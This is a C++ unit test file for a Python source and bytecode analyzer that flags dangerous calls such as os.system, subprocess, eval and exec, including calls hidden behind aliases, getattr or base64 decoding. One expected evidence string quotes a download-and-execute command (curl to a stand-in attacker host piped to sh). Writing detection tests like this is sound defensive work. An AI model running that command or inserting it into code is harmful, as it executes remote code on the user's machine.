// Tests of the Python analyzer: the tokenizer on the lexical corners that decide what is code,
// the import-aware call finder, and whole files from ../testdata (made by make_testdata.py).
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "analyzers/python/bytecode.h"
#include "analyzers/python/calls.h"
#include "analyzers/python/tokenizer.h"
#include "engine/analyzer.h"
#include "engine/engine.h"
#include "engine/sniff.h"
#include "support/findings.h"
#include "support/test_paths.h"

namespace mg {
namespace {

using python::Danger;
using python::TokenKind;

std::vector<std::string> Names(std::string_view source) {
  std::vector<std::string> names;
  for (const auto& token : python::Tokenize(source).tokens) {
    if (token.kind == TokenKind::kName) names.emplace_back(token.text);
  }
  return names;
}

// "name@line" for every dangerous use, for compact expectations.
std::vector<std::string> Uses(std::string_view source) {
  std::vector<std::string> uses;
  for (const auto& use : python::FindDangerousUses(python::Tokenize(source).tokens)) {
    uses.push_back(use.name + "@" + std::to_string(use.line));
  }
  return uses;
}

Target ScanTestData(std::string_view name) {
  return ScanFile(test::AnalyzerTestData("python", name).string(), Limits{});
}

TEST(PythonTokenizerTest, CommentsAndStringsHoldNoNames) {
  EXPECT_EQ(Names("x = 'os.system' # eval(y)\n"), std::vector<std::string>{"x"});
  EXPECT_EQ(Names("s = '''a\nexec(b)\n'''\nt = 1"), (std::vector<std::string>{"s", "t"}));
  EXPECT_EQ(Names(R"(r = r"\"eval\"" + b'\'' + rb"x")"), std::vector<std::string>{"r"});
}

TEST(PythonTokenizerTest, FStringFieldsAreCode) {
  EXPECT_EQ(Names("f'text {a.b(c)} more {{literal}}'"), (std::vector<std::string>{"a", "b", "c"}));
  EXPECT_EQ(Names("F\"{x!r:>{width}}\""), (std::vector<std::string>{"x", "r", "width"}));
  EXPECT_EQ(Names("f'{f\"{inner}\"}'"), std::vector<std::string>{"inner"});
}

TEST(PythonTokenizerTest, LinesCountThroughContinuationsAndStrings) {
  const auto tokenized = python::Tokenize("a = 1 + \\\n    2\nb = '''x\ny'''\nc\r\nd");
  ASSERT_TRUE(tokenized.complete);
  std::vector<std::uint32_t> lines;
  for (const auto& token : tokenized.tokens) {
    if (token.kind == TokenKind::kName) lines.push_back(token.line);
  }
  EXPECT_EQ(lines, (std::vector<std::uint32_t>{1, 3, 5, 6}));
}

TEST(PythonTokenizerTest, UnterminatedInputStopsWithALine) {
  const auto single = python::Tokenize("x = 1\ny = 'open\n");
  EXPECT_FALSE(single.complete);
  EXPECT_EQ(single.error_line, 2u);
  EXPECT_FALSE(python::Tokenize("z = f'{a'").complete);
  EXPECT_FALSE(python::Tokenize("\"\"\"").complete);
  std::string nested = "x";
  for (int i = 0; i < 12; ++i) nested = "f'{" + nested + "}'";
  EXPECT_FALSE(python::Tokenize(nested).complete);
}

TEST(PythonCallsTest, ResolvesImportsAndAliases) {
  EXPECT_EQ(Uses("import subprocess as sp\nsp.run(['id'])\n"),
            std::vector<std::string>{"subprocess.run@2"});
  EXPECT_EQ(Uses("from os import system as s\n\ns('id')\n"),
            std::vector<std::string>{"os.system@3"});
  EXPECT_EQ(Uses("from os import *\nsystem('id')\n"), std::vector<std::string>{"os.system@2"});
  EXPECT_EQ(Uses("from subprocess import (\n  Popen,\n  PIPE)\nPopen(x)\n"),
            std::vector<std::string>{"subprocess.Popen@4"});
  EXPECT_EQ(Uses("import urllib.request\nurllib.request.urlopen(u)\n"),
            std::vector<std::string>{"urllib.request.urlopen@2"});
}

TEST(PythonCallsTest, BuiltinsOnlyWhenCalledAndNotShadowed) {
  EXPECT_EQ(Uses("eval('1')\nexec(code)\n"), (std::vector<std::string>{"eval@1", "exec@2"}));
  EXPECT_TRUE(Uses("model.eval()\nre.compile('x')\nf(eval=True)\n").empty());
  EXPECT_TRUE(Uses("from re import compile\ncompile('x')\n").empty());
  EXPECT_TRUE(Uses("def exec(x):\n  return x\nexec(1)\n").empty());
  EXPECT_TRUE(Uses("class A:\n  def system(self): pass\nA().system()\n").empty());
}

TEST(PythonCallsTest, GetattrWithALiteralName) {
  EXPECT_EQ(Uses("import os\ngetattr(os, 'system')('id')\n"),
            std::vector<std::string>{"os.system@2"});
  EXPECT_EQ(Uses("import subprocess as s\nrun = getattr(s, \"Popen\")\n"),
            std::vector<std::string>{"subprocess.Popen@2"});
  EXPECT_TRUE(Uses("getattr(self, 'system')()\ngetattr(os, name)\n").empty());
}

TEST(PythonCallsTest, ReferencesCountAndImportsDoNot) {
  EXPECT_TRUE(Uses("import os\nfrom subprocess import run\n").empty());
  const auto uses = python::FindDangerousUses(python::Tokenize("cb = os.system\n").tokens);
  ASSERT_EQ(uses.size(), 1u);
  EXPECT_FALSE(uses[0].called);
  EXPECT_EQ(uses[0].danger, Danger::kCommand);
}

TEST(PythonCallsTest, DecodedPayloadsAreMarked) {
  const auto uses =
      python::FindDangerousUses(python::Tokenize("exec(base64.b64decode(b))\neval(x)\n").tokens);
  ASSERT_EQ(uses.size(), 2u);
  EXPECT_TRUE(uses[0].decodes);
  EXPECT_FALSE(uses[1].decodes);
}

TEST(PythonCallsTest, TableCategories) {
  Danger danger = Danger::kCode;
  ASSERT_TRUE(python::ClassifyName("os.execvpe", true, &danger));
  EXPECT_EQ(danger, Danger::kCommand);
  ASSERT_TRUE(python::ClassifyName("requests.post", true, &danger));
  EXPECT_EQ(danger, Danger::kNetwork);
  ASSERT_TRUE(python::ClassifyName("marshal.loads", true, &danger));
  EXPECT_EQ(danger, Danger::kDeserialize);
  ASSERT_TRUE(python::ClassifyName("ctypes.cdll.LoadLibrary", true, &danger));
  EXPECT_EQ(danger, Danger::kNative);
  EXPECT_FALSE(python::ClassifyName("eval", false, &danger));
  EXPECT_FALSE(python::ClassifyName("requests.exceptions.HTTPError", false, &danger));
  EXPECT_FALSE(python::ClassifyName("os.path.join", true, &danger));
}

TEST(PythonAnalyzerTest, CleanModuleIsMediumOnly) {
  const Target target = ScanTestData("clean_module.py");
  EXPECT_EQ(target.format, "python");
  EXPECT_EQ(target.status, TargetStatus::kComplete);
  ASSERT_EQ(target.findings.size(), 1u);
  EXPECT_EQ(target.findings[0].rule, "PY-SOURCE");
  EXPECT_EQ(target.findings[0].severity, Severity::kMedium);
  EXPECT_NE(target.findings[0].message.find("clean_module.py"), std::string::npos);
}

TEST(PythonAnalyzerTest, StringsAndCommentsNeverTrigger) {
  const Target target = ScanTestData("strings_only.py");
  ASSERT_EQ(target.findings.size(), 1u) << target.findings.back().rule;
  EXPECT_EQ(target.findings[0].rule, "PY-SOURCE");
}

TEST(PythonAnalyzerTest, EmptyModuleIsLow) {
  const Target target = ScanTestData("empty_init.py");
  ASSERT_EQ(target.findings.size(), 1u);
  EXPECT_EQ(target.findings[0].severity, Severity::kLow);
}

TEST(PythonAnalyzerTest, OsSystemWithLineEvidence) {
  const Target target = ScanTestData("os_system.py");
  const auto found = test::WithRule(target, "PY-RUNS-COMMAND");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0]->severity, Severity::kHigh);
  EXPECT_EQ(found[0]->evidence, "line 3: os.system('curl http://attacker.invalid/x | sh')");
  EXPECT_EQ(found[0]->location.offset, 11u);
}

TEST(PythonAnalyzerTest, EveryCategoryThroughAliases) {
  const Target target = ScanTestData("aliases.py");
  for (const char* rule : {"PY-RUNS-COMMAND", "PY-NETWORK", "PY-DESERIALIZE", "PY-NATIVE-CODE"}) {
    EXPECT_TRUE(test::Has(target, rule)) << rule;
  }
  std::vector<std::string> evidence;
  for (const auto& finding : target.findings) evidence.push_back(finding.evidence);
  for (const char* expected : {"line 7: sp.Popen(['id'])", "line 8: run_shell('id')",
                               "line 9: handle = popen", "line 13: lib = CDLL('./payload.so')"}) {
    EXPECT_NE(std::find(evidence.begin(), evidence.end(), expected), evidence.end()) << expected;
  }
}

TEST(PythonAnalyzerTest, Base64ExecAndDunderImport) {
  const Target base64_exec = ScanTestData("base64_exec.py");
  const auto exec = test::WithRule(base64_exec, "PY-RUNS-CODE");
  ASSERT_EQ(exec.size(), 1u);
  EXPECT_NE(exec[0]->evidence.find("(runs decoded data)"), std::string::npos);
  const Target dunder_import = ScanTestData("dunder_import.py");
  const auto import = test::WithRule(dunder_import, "PY-RUNS-CODE");
  ASSERT_EQ(import.size(), 1u);
  EXPECT_NE(import[0]->message.find("__import__"), std::string::npos);
}

TEST(PythonAnalyzerTest, FStringFieldCallIsFound) {
  const Target fstring = ScanTestData("fstring_call.py");
  const auto found = test::WithRule(fstring, "PY-RUNS-COMMAND");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_NE(found[0]->message.find("os.popen"), std::string::npos);
  EXPECT_FALSE(test::Has(ScanTestData("fstring_call.py"), "PY-RUNS-CODE"));  // exec(1) is text
}

TEST(PythonAnalyzerTest, UnterminatedIsIncompleteButKeepsEarlierUses) {
  const Target target = ScanTestData("unterminated.py");
  EXPECT_EQ(target.status, TargetStatus::kIncomplete);
  EXPECT_TRUE(test::Has(target, "PY-UNREADABLE"));
  EXPECT_TRUE(test::Has(target, "PY-RUNS-COMMAND"));
}

TEST(PythonAnalyzerTest, Bytecode) {
  const Target clean = ScanTestData("clean_module.pyc");
  EXPECT_EQ(clean.format, "python");
  ASSERT_EQ(clean.findings.size(), 1u);
  EXPECT_EQ(clean.findings[0].rule, "PY-BYTECODE");
  // self.eval() and .compile are attributes, but the names are listed all the same: evidence.
  EXPECT_EQ(clean.findings[0].evidence,
            "CPython 3.11 bytecode (magic 3495, checked hash); names seen: eval, compile");
  const Target evil = ScanTestData("os_system.pyc");
  ASSERT_TRUE(test::Has(evil, "PY-BYTECODE"));
  EXPECT_EQ(test::WithRule(evil, "PY-BYTECODE")[0]->evidence,
            "CPython 3.11 bytecode (magic 3495, unchecked hash); names seen: os, system");
  for (const char* name : {"bad_flags.pyc", "bad_magic.pyc", "truncated.pyc"}) {
    const Target bad = ScanTestData(name);
    EXPECT_EQ(bad.status, TargetStatus::kIncomplete) << name;
    EXPECT_TRUE(test::Has(bad, "PY-MALFORMED-BYTECODE")) << name;
  }
}

TEST(PythonAnalyzerTest, SourceInsideAnArchive) {
  const Target target = ScanTestData("source_in_zip.zip");
  const Finding* source = test::AtMember(target, {"model/modeling_x.py"}, "PY-SOURCE");
  ASSERT_NE(source, nullptr);
  EXPECT_NE(source->message.find("modeling_x.py"), std::string::npos);
  EXPECT_NE(test::AtMember(target, {"model/modeling_x.py"}, "PY-RUNS-COMMAND"), nullptr);
}

TEST(PythonSniffTest, NameAndContentDecide) {
  const std::string text = "import os\n";
  EXPECT_EQ(SniffAnalyzer(ByteView(text), "dir/x.py")->Name(), "python");
  EXPECT_EQ(SniffAnalyzer(ByteView(text), "X.PYW")->Name(), "python");
  EXPECT_EQ(SniffAnalyzer(ByteView(text), "x.txt"), nullptr);
  const std::string binary("\x01\x00\x02\x03", 4);
  EXPECT_EQ(SniffAnalyzer(ByteView(binary), "x.py"), nullptr);
  // A protocol 0 pickle named .py is still a pickle: its finding must not be lost.
  const std::string pickle = test::ReadFile(test::FixturesDir() / "malicious" / "os_system_p0.pkl");
  EXPECT_EQ(SniffAnalyzer(ByteView(pickle), "evil.py")->Name(), "pickle");
}

TEST(PythonBytecodeTest, HeaderSizesByVersion) {
  const std::string v36(
      "\x33\x0d\x0d\x0a"
      "aaaabbbb"
      "c",
      13);  // 3379: 3.6, 12-byte header
  const auto header = python::ReadPycHeader(ByteView(v36));
  EXPECT_TRUE(header.ok) << header.error;
  EXPECT_EQ(header.version, "3.6");
  EXPECT_EQ(header.header_size, 12u);
  const std::string v27(
      "\x03\xf3\x0d\x0a"
      "aaaa"
      "\xe3",
      9);  // 62211: 2.7, 8 bytes
  EXPECT_EQ(python::ReadPycHeader(ByteView(v27)).version, "2.7");
  EXPECT_TRUE(python::ReadPycHeader(ByteView(v27)).ok);
}

}  // namespace
}  // namespace mg
